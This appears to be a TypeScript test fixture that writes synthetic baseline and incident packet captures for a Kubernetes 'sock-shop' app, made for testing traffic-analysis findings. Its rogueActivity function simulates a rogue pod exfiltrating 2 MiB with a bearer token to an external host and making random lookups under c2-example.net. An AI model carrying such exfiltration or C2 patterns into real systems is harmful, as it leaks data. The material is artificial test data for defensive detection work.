/**
 * A baseline and an incident capture of a small "sock-shop" (packets composed into files, nothing
 * sent), with workloads.json giving the addresses their pods and namespaces. Both have the same
 * steady traffic; in the incident:
 *
 * - a rogue pod (mizutest-websocket-client) looks up www.google.com, then uploads 2 MiB with curl
 *   and a bearer token to the external-looking 142.250.74.36:80, and fails 15 lookups of random
 *   names within two seconds;
 * - payment's latency triples;
 * - catalogue starts failing halfway (6 calls in 10 answer 500);
 * - a debug pod of namespace `dev` calls payment with python-requests.
 *
 * Each capture is its own node (file name without extension), so a snapshot of one node holds
 * one capture.
 */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { type Endpoint, TrafficCapture } from './trafficCapture';

export const BASELINE_START = Date.UTC(2026, 2, 14, 16, 0, 0);
export const INCIDENT_START = Date.UTC(2026, 2, 14, 17, 0, 0);
/** Seconds between rounds of steady traffic, and rounds per capture (three minutes). */
const ROUND_S = 2;
const ROUNDS = 90;

export const POD = {
  frontEnd: { name: 'front-end-6f8b5c4d9f-abcde', ns: 'sock-shop', ip: '10.0.1.10' },
  orders: { name: 'orders-7d9f8c6b5d-fghij', ns: 'sock-shop', ip: '10.0.1.20' },
  payment: { name: 'payment-5c7d8e9f6a-klmno', ns: 'sock-shop', ip: '10.0.1.30' },
  catalogue: { name: 'catalogue-84d7c6b5a9-pqrst', ns: 'sock-shop', ip: '10.0.1.40' },
  user: { name: 'user-6b5a4c3d2e-uvwxy', ns: 'sock-shop', ip: '10.0.1.50' },
  dns: { name: 'coredns-5d78c9869d-zzzzz', ns: 'kube-system', ip: '10.0.0.10' },
  rogue: { name: 'mizutest-websocket-client-7f6e5d4c3b-rogue', ns: 'sock-shop', ip: '10.0.1.66' },
  debug: { name: 'debug-tools-5f4e3d2c1b-dbgxx', ns: 'dev', ip: '10.0.2.5' },
} as const;

export const EXTERNAL_IP = '142.250.74.36';
export const EXTERNAL_NAME = 'www.google.com';
/** Never shown anywhere: findings show credentials redacted. */
export const SECRET_TOKEN = 'ghp_S3cr3tT0kenThatMustNeverBeShown42';
export const UPLOAD_BYTES = 2 << 20;
export const FAILED_LOOKUPS = 15;

/** What a person would name the scenario's workloads (`namespace/workload`). */
export const WORKLOAD = {
  rogue: 'sock-shop/mizutest-websocket-client',
  payment: 'sock-shop/payment',
  catalogue: 'sock-shop/catalogue',
  debug: 'dev/debug-tools',
} as const;

export interface Scenario {
  readonly folder: string;
  readonly baseline: string;
  readonly incident: string;
}

/** Deterministic jitter (a linear congruential generator), so both runs of a test see the same packets. */
function jitter(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state * 1103515245 + 12345) & 0x7fffffff;
    return state / 0x7fffffff;
  };
}

const endpoint = (pod: { ip: string }, port: number): Endpoint => ({ ip: pod.ip, port });

function request(method: string, target: string, host: string, agent: string, extra: string[] = [], body = ''): string {
  return [`${method} ${target} HTTP/1.1`, `Host: ${host}`, `User-Agent: ${agent}`, ...extra, ...(body ? [`Content-Length: ${Buffer.byteLength(body)}`] : []), '', body].join('\r\n');
}

function response(status: number, body = '{"ok":true}'): string {
  return [`HTTP/1.1 ${status} ${status === 200 ? 'OK' : status === 500 ? 'Internal Server Error' : 'Method Not Allowed'}`, 'Content-Type: application/json', `Content-Length: ${Buffer.byteLength(body)}`, '', body].join('\r\n');
}

const INTERNAL_NAMES = ['orders.sock-shop.svc.cluster.local', 'payment.sock-shop.svc.cluster.local', 'catalogue.sock-shop.svc.cluster.local', 'user.sock-shop.svc.cluster.local'];

/** One capture: steady traffic every ROUND_S seconds; the incident's changes when `incident`. */
function writeCapture(file: string, start: number, incident: boolean): void {
  const capture = new TrafficCapture(start);
  const random = jitter(incident ? 17 : 5);
  let port = 30000;
  const next = (): number => port++;
  for (let round = 0; round < ROUNDS; round++) {
    const roundStart = start + round * ROUND_S * 1000;
    capture.wait(Math.max(0, roundStart - capture.nowMs) * 1000);
    const ms = (low: number, high: number): number => Math.round((low + random() * (high - low)) * 1000);
    capture.dns(endpoint(POD.frontEnd, next()), endpoint(POD.dns, 53), 1000 + round, INTERNAL_NAMES[round % INTERNAL_NAMES.length]!, POD.orders.ip, ms(0.3, 0.8));
    capture.http(endpoint(POD.frontEnd, next()), endpoint(POD.orders, 8080), [0, 1].map((k) => ({
      request: request('GET', `/orders/${round * 2 + k}`, 'orders', 'sock-shop-front-end/1.4'), response: response(200), latencyUs: ms(4, 6),
    })));
    // payment: 15–25 ms normally, three times that in the incident.
    const slow = incident ? 3 : 1;
    capture.http(endpoint(POD.orders, next()), endpoint(POD.payment, 8080), [{
      request: request('POST', '/paymentAuth', 'payment', 'Go-http-client/1.1', ['Content-Type: application/json'], '{"amount":42}'), response: response(200), latencyUs: ms(15 * slow, 25 * slow),
    }]);
    // catalogue: fails six calls in ten from the incident's second half on.
    const failing = incident && round >= ROUNDS / 2 && round % 10 < 6;
    capture.http(endpoint(POD.frontEnd, next()), endpoint(POD.catalogue, 8080), [{
      request: request('GET', `/catalogue/${1000 + round}`, 'catalogue', 'sock-shop-front-end/1.4'), response: failing ? response(500, '{"error":"db"}') : response(200), latencyUs: ms(2, 4),
    }]);
    capture.http(endpoint(POD.frontEnd, next()), endpoint(POD.user, 8080), [{
      request: request('GET', `/customers/${round}`, 'user', 'sock-shop-front-end/1.4'), response: response(200), latencyUs: ms(3, 5),
    }]);
    if (incident && round === 30) rogueActivity(capture, next);
    if (incident && round >= 40 && round < 45) {
      capture.http(endpoint(POD.debug, next()), endpoint(POD.payment, 8080), [{
        request: request('GET', '/health', 'payment', 'python-requests/2.31.0'), response: response(200), latencyUs: ms(15 * slow, 25 * slow),
      }]);
    }
  }
  capture.write(file);
}

function rogueActivity(capture: TrafficCapture, next: () => number): void {
  capture.dns(endpoint(POD.rogue, next()), endpoint(POD.dns, 53), 4242, EXTERNAL_NAME, EXTERNAL_IP, 500);
  const upload = 'x'.repeat(UPLOAD_BYTES);
  capture.http(endpoint(POD.rogue, next()), { ip: EXTERNAL_IP, port: 80 }, [
    { request: request('POST', '/upload', EXTERNAL_NAME, 'curl/8.5.0', [`Authorization: Bearer ${SECRET_TOKEN}`, 'Content-Type: application/octet-stream'], upload), response: response(405, '{"error":"method"}'), latencyUs: 40_000 },
    { request: request('GET', '/', EXTERNAL_NAME, 'curl/8.5.0', [`Authorization: Bearer ${SECRET_TOKEN}`]), response: response(200), latencyUs: 30_000 },
  ]);
  for (let i = 0; i < FAILED_LOOKUPS; i++) {
    capture.wait(100_000);
    capture.dns(endpoint(POD.rogue, next()), endpoint(POD.dns, 53), 5000 + i, `x${(i * 7919).toString(36)}q.c2-example.net`, 3, 600);
  }
}

/** Writes baseline.pcap, incident.pcap and workloads.json into `folder`. */
export function writeIncidentScenario(folder: string): Scenario {
  const baseline = path.join(folder, 'baseline.pcap');
  const incident = path.join(folder, 'incident.pcap');
  writeCapture(baseline, BASELINE_START, false);
  writeCapture(incident, INCIDENT_START, true);
  const since = Date.UTC(2026, 0, 1);
  const workloads = Object.values(POD).map((p) => ({ name: p.name, namespace: p.ns, kind: 'pod', labels: {}, ips: [{ ip: p.ip, timestamp: since }] }));
  writeFileSync(path.join(folder, 'workloads.json'), `${JSON.stringify({ workloads, total: workloads.length }, null, 2)}\n`);
  return { folder, baseline, incident };
}
